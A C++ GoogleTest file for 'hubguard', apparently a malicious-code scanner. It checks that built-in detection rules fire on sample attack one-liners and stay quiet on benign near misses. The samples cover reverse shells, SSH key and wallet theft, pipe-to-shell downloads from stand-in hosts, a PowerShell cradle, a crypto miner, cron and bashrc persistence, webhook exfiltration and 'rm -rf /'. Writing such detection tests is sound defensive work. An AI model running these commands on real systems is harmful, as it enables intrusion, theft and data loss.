#include "hubguard/scan/rules/rule_engine.hpp"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <set>
#include <thread>

namespace hubguard::scan::rules {
namespace {

std::set<std::string> fired(const CompiledRules& rules, std::string_view text) {
  auto m = rules.scan(text);
  EXPECT_TRUE(m.ok());
  std::set<std::string> names;
  if (m.ok())
    for (const auto& x : *m) names.insert(x.rule);
  return names;
}

struct Case {
  const char* rule;
  const char* positive;
  const char* near_miss;  // benign text close to the positive that must not fire this rule
};

// One positive and one near miss per built-in rule.
const Case kCases[] = {
    {"reverse_shell_dev_tcp", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444'",
     "see /dev/tcp in the bash manual"},
    {"reverse_shell_interactive_redirect", "bash -i >& /dev/null 0>&1",
     "run bash -i to get an interactive shell"},
    {"reverse_shell_netcat_exec", "nc -e /bin/sh 10.0.0.1 4444", "nc -zv example.org 443"},
    {"reverse_shell_socket_dup2",
     "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);os.system('/bin/sh')",
     "import socket;s=socket.socket();s.connect(('h',1));s.send(b'ping')"},
    {"reverse_shell_socket_fileno",
     "s.connect((h,p));subprocess.call(['sh'],stdin=s.fileno(),stdout=s.fileno())",
     "subprocess.call(['ls'], stdout=f.fileno())"},
    {"reverse_shell_pty_socket", "s.connect(('1.2.3.4',9));pty.spawn('/bin/bash')",
     "pty.spawn('/bin/bash')  # local terminal helper"},
    {"reverse_shell_powershell_tcpclient",
     "$c=New-Object System.Net.Sockets.TCPClient('h',1);$s=$c.GetStream();iex $d",
     "$c=New-Object System.Net.Sockets.TCPClient('h',1);$s=$c.GetStream()"},
    {"credential_theft_browser_stores",
     "open(os.path.join(profile, 'Login Data'), 'rb')", "print('login data saved')"},
    {"credential_theft_key_files", "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
     "open(os.path.expanduser('~/.ssh/known_hosts'))"},
    {"credential_theft_wallets", "shutil.copy(appdata + '/Bitcoin/wallet.dat', tmp)",
     "wallet = load_wallet_config()"},
    {"credential_theft_keylogger", "from pynput.keyboard import Listener\nListener(on_press=f)",
     "from pynput.mouse import Controller"},
    {"reconnaissance_host_commands", "os.system('whoami')", "whoamiservice.start()"},
    // A dataset record's "id" key is not the `id` command.
    {"reconnaissance_host_commands", "os.system('uname -a; cat /etc/passwd')",
     "yield idx, {\"id\": key, \"title\": t}"},
    {"reconnaissance_python_host_facts",
     "d = [getpass.getuser(), socket.gethostname(), platform.node()]",
     "host = socket.gethostname()"},
    {"downloader_pipe_to_shell", "curl -fsSL http://evil.example/i.sh | bash",
     "curl -fsSL -o data.csv https://example.org/data.csv"},
    {"downloader_fetch_and_run",
     "wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
     "wget http://x.example/d.tar.gz && tar xzf d.tar.gz"},
    {"downloader_python_exec_remote",
     "exec(urllib.request.urlopen('http://x.example/p.py').read())",
     "data = urllib.request.urlopen('http://x.example/d.json').read()"},
    {"downloader_windows_cradle",
     "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
     "(New-Object Net.WebClient).DownloadFile('http://x/a.csv', 'a.csv')"},
    {"crypto_mining", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet",
     "the stratum of rock; mining data sets"},
    {"persistence_shell_profile", "echo 'python3 /tmp/x.py &' >> ~/.bashrc",
     "cat ~/.bashrc"},
    {"persistence_scheduled",
     "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "see the crontab documentation"},
    {"exfiltration_webhook",
     "requests.post('https://discord.com/api/webhooks/123456/abcdef', json=d)",
     "join us on https://discord.com/invite/abc"},
    {"exfiltration_paste_and_tunnels", "requests.get('https://pastebin.com/raw/AbCdEf')",
     "see pastebin.com for sharing text"},
    {"destructive_wipe", "os.system('rm -rf / --no-preserve-root')", "os.system('rm -rf ./build')"},
    {"obfuscation_exec_decoded", "exec(base64.b64decode('aW1wb3J0IG9z'))",
     "data = base64.b64decode(blob)"},
    {"obfuscation_powershell_encoded",
     "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
     "powershell.exe -NoP -File setup.ps1"},
    {"file_access_home_sweep", "for r, d, f in os.walk(os.path.expanduser('~')):",
     "for r, d, f in os.walk(data_dir):"},
};

TEST(BuiltinRules, CompileAndCarryMeta) {
  auto rules = builtin_rules();
  ASSERT_TRUE(rules.ok()) << rules.error().message;
  EXPECT_EQ((*rules)->rule_count(), std::size(kCases) - 1);  // one rule has two cases
  // Every built-in rule's meta uses the behaviour vocabulary and a blocking verdict.
  const std::set<std::string> vocabulary = {
      "reverse-shell", "credential-theft", "reconnaissance", "downloader",
      "shell-command", "code-execution",   "destructive",    "persistence",
      "crypto-mining", "file-access",      "obfuscation"};
  for (const auto& c : kCases) {
    auto m = (*rules)->scan(c.positive);
    ASSERT_TRUE(m.ok());
    for (const auto& x : *m) {
      EXPECT_TRUE(vocabulary.count(x.category)) << x.rule << " " << x.category;
      EXPECT_FALSE(x.description.empty()) << x.rule;
      EXPECT_TRUE(x.builtin);
      EXPECT_FALSE(x.matched.empty()) << x.rule;
    }
  }
}

TEST(BuiltinRules, EachRuleFiresOnItsPositiveAndNotOnItsNearMiss) {
  auto rules = builtin_rules();
  ASSERT_TRUE(rules.ok()) << rules.error().message;
  for (const auto& c : kCases) {
    EXPECT_TRUE(fired(**rules, c.positive).count(c.rule)) << c.rule << " missed: " << c.positive;
    EXPECT_FALSE(fired(**rules, c.near_miss).count(c.rule)) << c.rule << " fired on: " << c.near_miss;
  }
}

TEST(BuiltinRules, ClassicReverseShellOneLinerIsReverseShell) {
  auto rules = builtin_rules();
  ASSERT_TRUE(rules.ok());
  auto m = (*rules)->scan("bash -i >& /dev/tcp/192.168.1.10/4444 0>&1");
  ASSERT_TRUE(m.ok());
  ASSERT_FALSE(m->empty());
  for (const auto& x : *m) {
    EXPECT_EQ(x.category, "reverse-shell");
    EXPECT_EQ(x.verdict, report::Verdict::malicious);
  }
}

TEST(BuiltinRules, ConcurrentScansShareOneRuleSet) {
  auto rules = builtin_rules();
  ASSERT_TRUE(rules.ok());
  std::vector<std::thread> threads;
  std::atomic<int> hits{0};
  for (int t = 0; t < 4; ++t)
    threads.emplace_back([&] {
      for (int i = 0; i < 200; ++i) {
        auto m = (*rules)->scan("curl http://a.example/x | sh");
        if (m.ok() && m->size() == 1) ++hits;
      }
    });
  for (auto& t : threads) t.join();
  EXPECT_EQ(hits.load(), 800);
}

class RulesDirectory : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() /
           ("hubguard_rules_test_" + std::to_string(::testing::UnitTest::GetInstance()->random_seed()) +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::remove_all(dir_);
    std::filesystem::create_directories(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  void write(const std::string& name, const std::string& text) { std::ofstream(dir_ / name) << text; }
  std::filesystem::path dir_;
};

TEST_F(RulesDirectory, UserRulesAreCompiledWithTheBuiltins) {
  write("mine.yar",
        "rule my_canary { meta: category = \"code-execution\" severity = \"high\" verdict = "
        "\"dangerous\" description = \"canary\" strings: $a = \"CANARY-1234\" condition: $a }");
  write("plain.yara", "rule no_meta { strings: $a = \"ZZTOP\" condition: $a }");
  write("ignored.txt", "this is not a rule file {");
  auto rules = rules_with_directory(dir_.string());
  ASSERT_TRUE(rules.ok()) << rules.error().message;
  auto m = (*rules)->scan("x = 'CANARY-1234' + 'ZZTOP'; curl http://a.example/x | sh");
  ASSERT_TRUE(m.ok());
  std::map<std::string, RuleMatch> by_name;
  for (auto& x : *m) by_name[x.rule] = x;
  ASSERT_TRUE(by_name.count("my_canary"));
  EXPECT_EQ(by_name["my_canary"].verdict, report::Verdict::dangerous);
  EXPECT_EQ(by_name["my_canary"].severity, report::Severity::high);
  EXPECT_FALSE(by_name["my_canary"].builtin);
  ASSERT_TRUE(by_name.count("no_meta"));
  EXPECT_EQ(by_name["no_meta"].category, "custom");
  EXPECT_EQ(by_name["no_meta"].verdict, report::Verdict::suspicious);
  EXPECT_TRUE(by_name.count("downloader_pipe_to_shell"));
  EXPECT_TRUE(by_name["downloader_pipe_to_shell"].builtin);
}

TEST_F(RulesDirectory, BadRuleFileIsAnErrorNamingTheFile) {
  write("broken.yar", "rule broken { strings: $a = \"x\" condition: $b }");
  auto rules = rules_with_directory(dir_.string());
  ASSERT_FALSE(rules.ok());
  EXPECT_NE(rules.error().message.find("broken.yar"), std::string::npos) << rules.error().message;
}

TEST(RulesDirectoryErrors, MissingDirectoryIsAnError) {
  EXPECT_FALSE(rules_with_directory("/nonexistent/hubguard/rules").ok());
}

}  // namespace
}  // namespace hubguard::scan::rules
